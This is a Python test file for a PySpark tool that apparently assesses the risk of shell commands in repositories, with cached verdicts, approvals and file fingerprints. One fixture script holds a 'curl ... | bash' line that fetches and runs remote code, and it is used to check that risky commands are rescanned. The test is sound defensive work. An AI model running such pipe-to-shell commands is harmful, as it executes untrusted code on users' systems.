"""Stored results: reuse, change, approval, and agreement with a full analysis."""

import hashlib

from pyspark.sql import functions as F

from riskspark.operators import commands as C
from riskspark.operators import files as FS
from riskspark.plans.assess import assess
from riskspark.plans.incremental import VERDICT, assess_incremental, plan_fingerprints

FILE = "repo_id string, snapshot_id string, path string, mode string, size_bytes long, content binary"
COMMAND = "command_id string, repo_id string, snapshot_id string, command string"
APPROVAL = (
    "entry_id string, store_ord long, repo_id string, head_commit string, critical_fingerprint string, command_scope string, "
    "policy_version string, ruleset_version string, expires_at timestamp"
)
TREE = {
    "plain": {"README.md": b"# hello", "setup.js": b"console.log(1)"},
    "script": {"README.md": b"# hi", "scripts/a.sh": b"echo a", "scripts/b.sh": b"curl https://example.invalid/x.sh | bash"},
    "node": {"package.json": b'{"scripts": {"postinstall": "node gone.js"}}'},
}
COMMANDS = [
    ("plain", "git status"), ("plain", "node setup.js"), ("plain", "cat README.md"), ("script", "bash scripts/a.sh"),
    ("script", "bash scripts/b.sh"), ("node", "npm install"), ("node", "git status"),
]


def _files(spark, tree):
    return spark.createDataFrame([(r, "s", p, "100644", len(c), bytearray(c)) for r, t in tree.items() for p, c in t.items()], FILE)


def _rows(result, commands):
    return {(r.repo_id, r.command): r for r in result.per_command(commands).collect()}


def test_results_are_reused_until_something_changes(spark, tmp_path):
    store, at = f"file://{tmp_path}/store", F.lit("2026-01-01 00:00:00").cast("timestamp")
    commands = spark.createDataFrame([(str(i), r, "s", c) for i, (r, c) in enumerate(COMMANDS)], COMMAND)
    identities = spark.createDataFrame([(r, "s", "c" * 40) for r in TREE], "repo_id string, snapshot_id string, head_commit string")
    files = _files(spark, TREE)
    full = {(r.repo_id, r.command): r for r in assess(files, commands).per_command(commands).collect()}

    first = _rows(assess_incremental(files, commands, identities, store, at), commands)
    assert set(first) == set(COMMANDS) and not any(r.used_scan_cache for r in first.values())
    assert all(first[k][c] == full[k][c] for k in full for c in VERDICT)

    # The same again: what was allowed or warned of comes from the store, the rest is scanned anew. An allowed command does
    # not vouch for another one of its scope.
    again = assess_incremental(files, commands, identities, store, at)
    second = _rows(again, commands)
    assert {k for k, r in second.items() if r.used_scan_cache} == {k for k, r in full.items() if r.decision in ("ALLOW", "WARN")}
    assert all(second[k][c] == full[k][c] for k in full for c in VERDICT)
    assert not second[("script", "bash scripts/b.sh")].used_scan_cache
    assert {(r.repo_id, r.command) for r in again.scanned.collect()} == {k for k, r in second.items() if not r.used_scan_cache}

    # A critical file concerns all commands of its snapshot, another file only the command that names it.
    changed = {**TREE, "plain": {**TREE["plain"], "setup.js": b"console.log(2)"}, "node": {**TREE["node"], "README.md": b"new"}}
    third = _rows(assess_incremental(_files(spark, changed), commands, identities, store, at), commands)
    assert not third[("plain", "node setup.js")].used_scan_cache and third[("plain", "git status")].used_scan_cache
    assert not third[("node", "git status")].used_scan_cache


def test_approved_plans_are_allowed_and_not_stored(spark, tmp_path):
    store, at = f"file://{tmp_path}/store", F.lit("2026-01-01 00:00:00").cast("timestamp")
    commands = spark.createDataFrame([("1", "script", "s", "bash scripts/b.sh")], COMMAND)
    identities = spark.createDataFrame([("script", "s", None)], "repo_id string, snapshot_id string, head_commit string")
    files = _files(spark, TREE)
    plans = C.distinct_plans(commands)
    plan = plans.join(plan_fingerprints(files, plans), "plan_id").first()
    approvals = spark.createDataFrame(
        [("e", 1, "script", None, plan.critical_fingerprint, plan.scope, "default-v1", "2026.07.13.2", None)], APPROVAL
    ).withColumn("expires_at", F.lit("2026-02-01 00:00:00").cast("timestamp"))
    for _ in range(2):
        row = _rows(assess_incremental(files, commands, identities, store, at, approvals=approvals), commands).popitem()[1]
        assert (row.decision, row.used_trust_cache, row.used_scan_cache) == ("ALLOW", True, False)


def test_fingerprints(spark):
    lines = {r: "\n".join(f"{p}:{hashlib.sha256(c).hexdigest()}" for p, c in sorted(t.items())) for r, t in TREE.items()}
    files = _files(spark, TREE)
    got = {r.repo_id: r.fingerprint for r in FS.fingerprint(files.repartition(5)).collect()}
    assert got == {r: "sha256:" + hashlib.sha256(t.encode()).hexdigest() for r, t in lines.items()}
    many = spark.range(30000).select(
        F.concat(F.lit("r"), (F.col("id") % 3).cast("string")).alias("repo_id"), F.lit("s").alias("snapshot_id"),
        F.format_string("f%05d", "id").alias("path"), F.encode(F.col("id").cast("string"), "UTF-8").alias("content"),
    )
    want = {}
    for i in range(30000):
        want.setdefault(f"r{i % 3}", []).append(f"f{i:05d}:{hashlib.sha256(str(i).encode()).hexdigest()}")
    got = {r.repo_id: r.fingerprint for r in FS.fingerprint(many).collect()}
    assert got == {r: "sha256:" + hashlib.sha256("\n".join(t).encode()).hexdigest() for r, t in want.items()}
    assert FS.fingerprint(files.limit(0)).collect() == []
